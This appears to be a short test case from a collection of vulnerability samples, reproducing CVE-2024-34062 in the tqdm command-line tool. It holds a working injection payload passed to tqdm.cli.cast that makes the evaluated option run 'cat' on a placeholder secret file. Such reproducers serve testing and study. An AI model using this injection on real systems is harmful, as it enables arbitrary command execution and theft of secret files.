# CVE-2024-34062: the command of tqdm evaluates the values of its options.
# effect: run
# until: 3.11
# tree: scientific
import tqdm.cli
tqdm.cli.cast('" + str(__import__("os").system("cat @SECRET@")) + "', "str")
